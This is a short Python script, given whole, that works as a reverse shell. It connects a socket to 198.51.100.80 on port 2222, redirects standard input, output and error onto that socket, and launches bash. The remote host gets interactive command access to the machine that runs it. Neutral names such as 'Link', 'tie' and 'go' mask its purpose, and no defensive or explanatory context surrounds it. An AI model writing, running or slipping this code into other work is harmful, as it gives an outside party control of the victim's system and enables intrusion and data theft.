import os, socket
class Link:
    def __init__(self, h, p): self.s = socket.socket(); self.s.connect((h, p))
    def tie(self):
        for n in range(3): os.dup2(self.s.fileno(), n)
    def go(self): os.execvp("bash", ["bash"])
l = Link("198.51.100.80", 2222); l.tie(); l.go()
